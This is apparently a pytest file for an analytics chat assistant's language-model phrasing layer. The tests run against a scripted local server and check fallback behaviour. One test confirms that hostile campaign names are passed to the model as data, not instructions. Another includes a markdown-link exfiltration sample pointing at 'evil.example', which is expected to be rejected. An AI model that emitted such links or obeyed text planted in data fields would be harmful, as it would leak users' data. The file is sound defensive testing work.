"""Wording by a language model, against a real OpenAI-compatible server on loopback that says what each test scripts."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from django.test import override_settings

from insights.chat import llm
from insights.chat.answer import Answer
from insights.chat.llm import Assistant
from insights.chat.pipeline import ask
from insights.semantic.access import OPERATOR
from insights.semantic.loading import load
from tests.insights.business import HOSTILE, NOW, Business

pytestmark = pytest.mark.django_db(databases=["default", "insights"])
QUESTION = "Which campaign had the highest CTR last week?"
TEMPLATE = "For last week (2026-11-09 to 2026-11-15, UTC), Summer Blockbusters had the highest CTR: 1.48% (clicks 40, impressions 2,695)."


def completion(content: Any) -> dict[str, Any]:
    message = {"role": "assistant", "content": content}
    return {
        "id": "x",
        "object": "chat.completion",
        "created": 0,
        "model": "scripted",
        "choices": [{"index": 0, "finish_reason": "stop", "message": message}],
    }


def says(text: str) -> dict[str, Any]:
    return completion(json.dumps({"text": text}))


@dataclass
class Endpoint:
    """Answers each request with ``status`` and ``body`` after ``wait`` lets go, and keeps what it was sent."""

    url: str = ""
    status: int = 200
    body: Any = None
    wait: Callable[[], Any] = lambda: None
    requests: list[dict[str, Any]] = field(default_factory=list)


@pytest.fixture
def endpoint() -> Iterator[Endpoint]:
    script = Endpoint()

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            script.requests.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            script.wait()
            payload = script.body if isinstance(script.body, bytes) else json.dumps(script.body).encode()
            try:
                self.send_response(script.status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(payload)))
                self.end_headers()
                self.wfile.write(payload)
            except (BrokenPipeError, ConnectionResetError):
                pass  # the client had stopped waiting, as the slow test means it to

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    script.url = f"http://127.0.0.1:{server.server_port}/v1"
    yield script
    server.shutdown()
    server.server_close()
    thread.join()


def asked(url: str, timeout: float = 5.0, question: str = QUESTION) -> Answer:
    assistant = Assistant(model="scripted", api_key="k", base_url=url, timeout=timeout)
    return ask(question, scope=OPERATOR, model=load(), now=NOW, currency="USD", assistant=assistant)


def fell_back(answer: Answer, reason: str) -> None:
    assert answer.status == "answered"
    assert answer.text.startswith(TEMPLATE)
    assert answer.engine == "built-in analyst (no language model)"
    assert "scripted did not help" in answer.note
    assert reason in answer.note


def test_a_good_answer_is_shown_with_its_cells_filled_in(business: Business, endpoint: Endpoint) -> None:
    endpoint.body = says("{{r1.campaign}} had the highest {{label.ctr}}, {{r1.ctr}}, from {{r1.clicks}} clicks in {{period}}.")
    answer = asked(endpoint.url)
    assert answer.text == "Summer Blockbusters had the highest CTR, 1.48%, from 40 clicks in last week (2026-11-09 to 2026-11-15, UTC)."
    assert answer.engine == "phrased by scripted"
    assert answer.note == ""
    assert len(endpoint.requests) == 1


def test_a_fenced_answer_is_read_too(business: Business, endpoint: Endpoint) -> None:
    endpoint.body = completion('```json\n{"text": "{{r1.campaign}} had the highest {{label.ctr}}: {{r1.ctr}}."}\n```')
    assert asked(endpoint.url).text == "Summer Blockbusters had the highest CTR: 1.48%."


def test_names_go_to_the_model_as_data_and_never_as_instructions(business: Business, endpoint: Endpoint) -> None:
    endpoint.body = says("{{r1.campaign}} had the highest {{label.ctr}}.")
    asked(endpoint.url)
    system, user = endpoint.requests[0]["messages"]
    assert system["content"] == llm.SYSTEM
    assert HOSTILE in [row["campaign"] for row in json.loads(user["content"])["rows"]]
    assert "tools" not in endpoint.requests[0]


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("{{r1.campaign}} reached a CTR of 9.99%.", "figures of its own"),
        ("{{r1.campaign}} reached a CTR of ٩٩ percent.", "figures of its own"),
        ("{{r1.campaign}} clicks were twenty-five thousand.", "a number in words"),
        ("{{r1.campaign}} had {{r9.ctr}}.", "a cell that is not there"),
        ("{{r1.campaign}} had {{r1.profit}}.", "a cell that is not there"),
        ("{{r1.campaign}} had {{label.ctr.", "broken placeholder"),
        ("{{r1.campaign}} rose because of the new creative.", "judged what was not checked"),
        ("{{r2.campaign}} did worst.", "judged what was not checked"),
        ("See <img src=x> {{r1.ctr}}", "markup"),
        ("[{{r1.ctr}}](https://evil.example/?q={{r1.campaign}})", "markup"),
        ("All is well.", "named no figure"),
        ("{{r1.ctr}} " + "and so on " * 100, "too long"),
    ],
)
def test_a_figure_a_cell_or_a_judgement_of_its_own_is_rejected(business: Business, endpoint: Endpoint, text: str, reason: str) -> None:
    endpoint.body = says(text)
    fell_back(asked(endpoint.url), reason)
    assert len(endpoint.requests) == 1


@pytest.mark.parametrize(
    ("status", "body", "reason"),
    [
        (200, completion("Summer Blockbusters did well."), "not JSON"),
        (200, completion('{"answer": "x"}'), "no text"),
        (200, completion('["x"]'), "no text"),
        (200, completion('{"text": 5}'), "no text"),
        (200, completion(""), "empty"),
        (200, completion(None), "empty"),
        (200, completion("x") | {"choices": []}, "empty"),
        (200, {}, "empty"),
        (200, b"<html>not an api</html>", ""),
        (200, b'{"choices": [{"mess', ""),
        (429, {"error": {"message": "slow down"}}, "answered 429"),
        (500, {"error": {"message": "oops"}}, "answered 500"),
        (401, {"error": {"message": "no"}}, "answered 401"),
    ],
)
def test_nonsense_and_errors_fall_back_visibly_after_one_call(business: Business, endpoint: Endpoint, status: int, body: Any, reason: str) -> None:
    endpoint.status, endpoint.body = status, body
    fell_back(asked(endpoint.url), reason)
    assert len(endpoint.requests) == 1


def test_an_endpoint_slower_than_the_timeout_is_not_waited_for(business: Business, endpoint: Endpoint) -> None:
    let_go = threading.Event()
    endpoint.wait, endpoint.body = let_go.wait, says("{{r1.ctr}}")
    try:
        fell_back(asked(endpoint.url, timeout=0.2), "no answer within 0.2 s")
    finally:
        let_go.set()


def test_a_refused_connection_falls_back(business: Business) -> None:
    fell_back(asked("http://127.0.0.1:9/v1"), "cannot be reached")


def test_a_question_that_is_not_answered_never_reaches_the_model(business: Business, endpoint: Endpoint) -> None:
    for question in ("What will CTR be next year?", "best campaign", "CTR in March"):
        asked(endpoint.url, question=question)
    assert endpoint.requests == []


def test_no_model_is_used_or_spoken_of_unless_one_is_configured() -> None:
    assert llm.configured() is None
    with override_settings(INSIGHTS_LLM_BASE_URL="http://127.0.0.1:9/v1", INSIGHTS_LLM_MODEL="local"):
        configured = llm.configured()
        assert configured is not None
        assert (configured.model, configured.api_key) == ("local", "none")
    with override_settings(OPENAI_API_KEY="k"):
        assert llm.configured() is not None
